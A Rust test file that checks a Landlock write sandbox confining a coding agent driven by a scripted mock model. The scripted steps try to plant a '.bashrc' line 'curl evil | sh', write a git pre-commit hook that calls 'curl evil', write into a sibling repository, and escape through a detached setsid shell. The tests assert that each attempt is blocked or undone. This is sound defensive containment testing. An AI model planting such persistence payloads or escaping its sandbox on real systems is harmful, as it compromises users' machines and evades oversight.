//! Write confinement (Landlock) with the REAL droid 0.225.2 driven by the scripted model: what
//! the repository may get, what the rest of the machine may not (a file planted in `$HOME`, in a
//! sibling repository, by a detached `setsid` shell, by a verification command), the git hooks
//! restored, `sandbox = "off"`, and a kernel without Landlock (simulated with
//! `DROID_EXECUTOR_TEST_NO_LANDLOCK=1`, which debug builds honour) warning under `auto` and
//! refused under `landlock`.
//!
//! Everything the agent must not write lives outside the system temp directory (which a run may
//! write): under `sandbox-tests/` of [`tests::non_root::outside_temp_base`], a HOME with droid's settings, the repository and a
//! sibling repository.

use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::time::Duration;

use droid_contract::{IssueType, SandboxKind, Status};
use droid_exec::Engine;
use droid_exec::config::SandboxMode;
use pretty_assertions::assert_eq;
use serde_json::{Value, json};
use tests::droid_bin::{droid_executor_bin, real_droid};
use tests::droid_home::settings_json;
use tests::scripted_model::ScriptedModel;
use tests::temp_dir::TempDir;

use super::binary::droid_executor;
use super::common::{engine_config, git, git_repo, request, run};

/// A directory outside the system temp dir, removed on drop (a failing test's too, from the
/// moment it exists; a dead test binary's by the next one): `home/` (droid's settings), `repo/`
/// (a git repository) and `other/` (a sibling repository).
struct Outside {
    dir: TempDir,
}

impl Outside {
    fn new(model: &ScriptedModel) -> Outside {
        let dir = TempDir::new_in(
            &tests::non_root::outside_temp_base().join("sandbox-tests"),
            "sandbox",
        )
        .unwrap();
        let outside = Outside { dir };
        let dir = outside.dir.path();
        let factory = dir.join("home/.factory");
        std::fs::create_dir_all(&factory).unwrap();
        std::fs::write(
            factory.join("settings.json"),
            serde_json::to_string_pretty(&settings_json(&[("Mock", &model.base_url())])).unwrap(),
        )
        .unwrap();
        for repo in ["repo", "other"] {
            let tmp = git_repo(&[("a.txt", "hello\n")]);
            let to = dir.join(repo);
            std::fs::create_dir_all(&to).unwrap();
            git(
                &to,
                &["clone", "-q", &tmp.path().display().to_string(), "."],
            );
        }
        outside
    }

    fn home(&self) -> PathBuf {
        self.dir.path().join("home")
    }

    fn repo(&self) -> PathBuf {
        self.dir.path().join("repo")
    }

    fn other(&self) -> PathBuf {
        self.dir.path().join("other")
    }

    fn env(&self) -> Vec<(OsString, OsString)> {
        vec![
            ("HOME".into(), self.home().into()),
            ("FACTORY_AIRGAP_ENABLED".into(), "1".into()),
            (
                "PATH".into(),
                std::env::var_os("PATH").unwrap_or_else(|| "/usr/bin:/bin".into()),
            ),
            ("LANG".into(), "C.UTF-8".into()),
        ]
    }
}

const MODEL: &str = "custom:Mock-0";

/// How an engine holds droid's tree.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Tree {
    /// droid spawned directly, with a guardian-less marker sweep.
    Direct,
    /// The run's supervisor process (`droid-executor guard`).
    Supervisor,
    /// A cgroup leaf (where the test process may make one; else the supervisor).
    Cgroup,
}

/// An engine on the real droid under `mode`, holding droid's tree as `tree` says.
fn engine(o: &Outside, scratch: &Path, mode: SandboxMode, tree: Tree) -> Engine {
    let supervised = tree != Tree::Direct;
    let mut cfg = engine_config(Some(real_droid()), o.env(), scratch);
    cfg.sandbox = mode;
    cfg.supervisor = supervised.then(droid_executor_bin);
    cfg.cgroups = tree == Tree::Cgroup;
    Engine::new(cfg)
}

fn create(path: &Path, content: &str) -> Value {
    json!({"name": "Create", "args": {"file_path": path.display().to_string(), "content": content}})
}

fn execute(command: &str) -> Value {
    json!({"name": "Execute", "args": {"summary": "run it", "command": command,
           "riskLevel": "low", "riskLevelReason": "test command"}})
}

/// Wait (bounded) for a detached writer to have had its chance, then say whether `path` exists.
async fn exists_after_detached(path: &Path) -> bool {
    // the detached shell was killed with the run's tree (its supervisor or the marker sweep);
    // a file it could have written would be there by now
    tokio::time::sleep(Duration::from_millis(300)).await;
    path.exists()
}

fn issue(res: &droid_contract::ExecutionResult, kind: IssueType) -> &str {
    res.issues
        .iter()
        .find(|i| i.kind == kind)
        .map_or("", |i| i.description.as_str())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_confined_run_writes_the_repository_and_nothing_else() {
    let model = ScriptedModel::start(json!([])).await.unwrap();
    let o = Outside::new(&model);
    let scratch = TempDir::new("sb-scratch").unwrap();
    let (home, repo, other) = (o.home(), o.repo(), o.other());
    let escaped = home.join("escaped");
    model.set_script(json!([
        {"tool": [create(&repo.join("inside.txt"), "ok\n")]},
        {"tool": [create(&home.join(".bashrc-planted"), "curl evil | sh\n")]},
        {"tool": [create(&other.join("planted.txt"), "x\n")]},
        {"tool": [execute(&format!("sh -c 'setsid sh -c \"echo x > {}\"'; sleep 0.2", escaped.display()))]},
        {"tool": [create(&repo.join(".git/hooks/pre-commit"), "#!/bin/sh\ncurl evil\n")]},
        {"text": "Done."}
    ]));
    let verify_escaped = home.join("verify-escaped");
    let ran = run(
        &engine(&o, scratch.path(), SandboxMode::Auto, Tree::Cgroup),
        &request(
            &repo,
            "Create inside.txt",
            json!({"model": MODEL, "suggested_commands": [
                "test -f inside.txt",
                format!("echo x > {}", verify_escaped.display())
            ]}),
        ),
    )
    .await;
    let res = &ran.result;
    // (a) the repository: written
    assert_eq!(
        std::fs::read_to_string(repo.join("inside.txt"))
            .ok()
            .as_deref(),
        Some("ok\n"),
        "{res:#?}"
    );
    // (b) HOME and a sibling repository: denied, nothing there
    assert!(!home.join(".bashrc-planted").exists(), "{res:#?}");
    assert!(!other.join("planted.txt").exists(), "{res:#?}");
    // (c) a detached setsid shell: denied too (the domain is inherited and cannot be left)
    assert!(!exists_after_detached(&escaped).await, "{res:#?}");
    // (d) a planted hook: restored (removed) and reported
    assert!(!repo.join(".git/hooks/pre-commit").exists(), "{res:#?}");
    // (e) a verification command writing outside: denied
    assert!(!verify_escaped.exists(), "{res:#?}");

    let sandbox = res.sandbox.as_ref().expect("no sandbox in the result");
    assert_eq!(sandbox.kind, SandboxKind::Landlock);
    assert_eq!(sandbox.abi, Some(7));
    assert_eq!(
        sandbox.writable.first().map(String::as_str),
        Some(std::fs::canonicalize(&repo).unwrap().to_str().unwrap())
    );
    assert!(
        sandbox
            .writable
            .contains(&home.join(".factory").display().to_string()),
        "{sandbox:#?}"
    );
    let denied = issue(res, IssueType::PermissionDenied);
    for path in [
        home.join(".bashrc-planted"),
        other.join("planted.txt"),
        verify_escaped.clone(),
    ] {
        assert!(
            denied.contains(&path.display().to_string()),
            "{path:?} not named in {denied:?}"
        );
    }
    assert!(
        issue(res, IssueType::Conflict).contains(".git/hooks/pre-commit"),
        "{:#?}",
        res.issues
    );
    assert_eq!(res.status, Status::Partial, "{:#?}", res.issues);
    assert_eq!(
        ran.commands()
            .iter()
            .filter(|c| c.0 == "verify")
            .map(|c| c.2)
            .collect::<Vec<_>>(),
        vec![Some(0), Some(2)]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn droid_spawned_without_a_supervisor_is_confined_too() {
    let model = ScriptedModel::start(json!([])).await.unwrap();
    let o = Outside::new(&model);
    let scratch = TempDir::new("sb-scratch").unwrap();
    let escaped = o.home().join("escaped");
    model.set_script(json!([
        {"tool": [execute(&format!("sh -c 'setsid sh -c \"echo x > {}\"'; sleep 0.2", escaped.display()))]},
        {"tool": [create(&o.home().join(".bashrc-planted"), "x\n")]},
        {"text": "Done."}
    ]));
    let ran = run(
        &engine(&o, scratch.path(), SandboxMode::Landlock, Tree::Direct),
        &request(&o.repo(), "Try", json!({"model": MODEL})),
    )
    .await;
    assert!(!exists_after_detached(&escaped).await, "{:#?}", ran.result);
    assert!(!o.home().join(".bashrc-planted").exists());
    assert!(
        issue(&ran.result, IssueType::PermissionDenied)
            .contains(&o.home().join(".bashrc-planted").display().to_string()),
        "{:#?}",
        ran.result.issues
    );
    assert_eq!(
        ran.result.sandbox.as_ref().map(|s| s.kind),
        Some(SandboxKind::Landlock)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sandbox_off_runs_unconfined_and_says_so() {
    let model = ScriptedModel::start(json!([])).await.unwrap();
    let o = Outside::new(&model);
    let scratch = TempDir::new("sb-scratch").unwrap();
    let outside = o.home().join("allowed-when-off.txt");
    model.set_script(json!([
        {"tool": [create(&outside, "x\n")]},
        {"text": "Done."}
    ]));
    let ran = run(
        &engine(&o, scratch.path(), SandboxMode::Off, Tree::Supervisor),
        &request(&o.repo(), "Write", json!({"model": MODEL})),
    )
    .await;
    assert!(outside.exists(), "{:#?}", ran.result);
    assert_eq!(
        ran.result.sandbox,
        Some(droid_contract::SandboxInfo {
            kind: SandboxKind::None,
            abi: None,
            writable: Vec::new(),
            reason: Some("off by config".into()),
        })
    );
    assert_eq!(
        ran.result
            .issues
            .iter()
            .filter(|i| i.kind == IssueType::PermissionDenied)
            .count(),
        0
    );
}

/// `droid-executor run --json` as a process whose environment says its kernel has no Landlock.
async fn run_without_landlock(o: &Outside, mode: &str) -> super::binary::Out {
    let mut env = o.env();
    env.push(("DROID_CLI_CMD".into(), real_droid().into()));
    env.push(("DROID_EXECUTOR_SANDBOX".into(), mode.into()));
    env.push(("DROID_EXECUTOR_TEST_NO_LANDLOCK".into(), "1".into()));
    env.push((
        "DROID_EXECUTOR_ALLOWED_ROOTS".into(),
        o.dir.path().to_path_buf().into(),
    ));
    let args = [
        "run".to_owned(),
        "--repo".to_owned(),
        o.repo().display().to_string(),
        "--model".to_owned(),
        MODEL.to_owned(),
        "--json".to_owned(),
        "Create b.txt".to_owned(),
    ];
    droid_executor(&args, &env, &o.home()).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_kernel_without_landlock_warns_under_auto_and_is_refused_under_landlock() {
    let model = ScriptedModel::start(json!([])).await.unwrap();
    let o = Outside::new(&model);
    model.set_script(json!([
        {"tool": [create(&o.repo().join("b.txt"), "b\n")]},
        {"text": "Created b.txt."}
    ]));
    let auto = run_without_landlock(&o, "auto").await;
    let res = auto.result();
    assert_eq!(res.status, Status::Success, "{auto:#?}");
    assert!(o.repo().join("b.txt").exists());
    assert_eq!(
        res.sandbox,
        Some(droid_contract::SandboxInfo {
            kind: SandboxKind::None,
            abi: None,
            writable: Vec::new(),
            reason: Some("kernel without Landlock".into()),
        })
    );
    assert!(
        res.logs
            .iter()
            .any(|l| l.starts_with("sandbox: this kernel offers no Landlock")),
        "{:#?}",
        res.logs
    );

    let asked = model.requests().len();
    let refused = run_without_landlock(&o, "landlock").await;
    let res = refused.result();
    assert_eq!(refused.code, Some(2), "{refused:#?}");
    assert_eq!(res.status, Status::Error);
    assert_eq!(res.issues.len(), 1, "{:#?}", res.issues);
    assert_eq!(res.issues[0].kind, IssueType::EnvIssue);
    assert!(
        res.issues[0].description.contains("sandbox = \"landlock\""),
        "{:#?}",
        res.issues
    );
    // nothing ran: the model was never asked by the refused run
    assert_eq!(model.requests().len(), asked);
}

/// A request's `sandbox_writable` opens one more directory to a confined run (a sibling
/// repository here), and only one that lies under the allowed roots: a directory outside them is
/// refused at admission, naming the field.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_request_may_open_a_directory_under_the_allowed_roots_and_no_other() {
    let model = ScriptedModel::start(json!([])).await.unwrap();
    let o = Outside::new(&model);
    let scratch = TempDir::new("sb-scratch").unwrap();
    let shared = o.other().join("shared.txt");
    let planted = o.home().join(".bashrc-planted");
    model.set_script(json!([
        {"tool": [create(&shared, "from the task\n")]},
        {"tool": [create(&planted, "x\n")]},
        {"text": "Done."}
    ]));
    let engine = engine(&o, scratch.path(), SandboxMode::Landlock, Tree::Supervisor);
    let ran = run(
        &engine,
        &request(
            &o.repo(),
            "Write the shared file",
            json!({"model": MODEL, "sandbox_writable": [o.other()]}),
        ),
    )
    .await;
    assert_eq!(
        std::fs::read_to_string(&shared).ok().as_deref(),
        Some("from the task\n"),
        "{:#?}",
        ran.result
    );
    assert!(!planted.exists(), "{:#?}", ran.result);
    let sandbox = ran.result.sandbox.as_ref().unwrap();
    assert_eq!(sandbox.kind, SandboxKind::Landlock);
    let other = std::fs::canonicalize(o.other()).unwrap();
    assert!(
        sandbox.writable.iter().any(|w| Path::new(w) == other),
        "{sandbox:#?}"
    );

    // with allowed roots, a directory outside them is refused before anything runs
    let mut cfg = engine.config().clone();
    cfg.allowed_roots = vec![o.dir.path().to_path_buf()];
    let strict = Engine::new(cfg);
    let refused = strict
        .admit(
            &json!({"objective": "x", "context": {"repo_root": o.repo()},
                        "sandbox_writable": ["/usr"]}),
        )
        .unwrap_err();
    assert_eq!(refused.0.len(), 1, "{refused:?}");
    assert_eq!(refused.0[0].path, "$.sandbox_writable[0]");
    assert!(
        refused.0[0]
            .message
            .contains("is outside the allowed roots"),
        "{refused:?}"
    );
}
